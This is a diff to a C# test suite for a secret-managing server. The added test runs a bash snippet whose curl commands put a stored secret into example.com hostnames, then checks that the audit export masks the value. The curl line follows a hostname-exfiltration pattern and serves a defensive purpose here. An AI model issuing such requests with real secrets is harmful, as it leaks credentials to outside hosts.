@@ -182,6 +182,19 @@ public sealed class SecretTests(SecretServer server) : IClassFixture<SecretServe
     }
 
     [Fact]
+    public async Task Names_ThatAProgramAsksFor_AreOnTheRecordWithoutValues()
+    {
+        await Put("NAME", new { value = "PlantedName7c9e" });
+        await Allow("NAME");
+        await Client.Run(new { language = "bash", code = "curl -s http://$NAME.example.com/; curl -s https://x.$NAME.example.com/; true", secrets = new[] { "NAME" } }, Token);
+
+        var exported = await Client.Http.GetStringAsync("/v1/audit/export", Token);
+
+        Assert.Contains("x.***.example.com", exported, StringComparison.Ordinal);
+        Assert.DoesNotContain("plantedname", exported, StringComparison.OrdinalIgnoreCase);
+    }
+
+    [Fact]
     public async Task Everything_Done_LeavesTheValuesNowhere()
     {
         var secrets = new[] { "TOKEN", "KEYFILE", "API" };
